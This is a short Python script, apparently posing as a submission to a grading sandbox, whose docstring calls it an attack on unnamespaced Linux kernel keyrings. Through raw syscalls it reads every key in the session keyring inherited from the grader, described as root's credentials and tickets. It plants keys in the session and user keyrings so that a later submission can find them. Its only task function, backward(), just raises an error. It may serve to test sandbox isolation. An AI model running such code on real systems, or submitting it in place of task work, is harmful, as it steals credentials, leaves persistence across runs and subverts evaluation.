"""Attack: the kernel's keyrings are not namespaced: read the keys of the session keyring it inherited from
the grader (root's: credentials, tickets), add one there, and leave one in its own user's keyring that a
later submission given the same user id finds."""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine, (-1, -1))
SESSION, USER = -3, -4


def keyctl(*args):
    r = libc.syscall(NR[1], *args)
    return r if r >= 0 else os.strerror(ctypes.get_errno())


buf = ctypes.create_string_buffer(4096)
n = keyctl(11, SESSION, buf, 4096)   # KEYCTL_READ of a keyring: its keys' serials
serials = list(memoryview(buf.raw[:n]).cast("i")) if isinstance(n, int) else []
print("session keyring:", n, serials)
for key in serials:
    m = keyctl(6, key, buf, 4096)     # KEYCTL_DESCRIBE
    d = buf.raw[:m].decode(errors="replace") if isinstance(m, int) else m
    m = keyctl(11, key, buf, 4096)    # KEYCTL_READ
    print("KEY", key, d, buf.raw[:m] if isinstance(m, int) else m)
for ring in (SESSION, USER):
    r = libc.syscall(NR[0], b"user", b"sbx-attack-key", b"planted", 7, ring)
    print("add_key", ring, r if r >= 0 else os.strerror(ctypes.get_errno()))


def backward(weights, biases, activations, targets):
    raise PermissionError("no key kept")
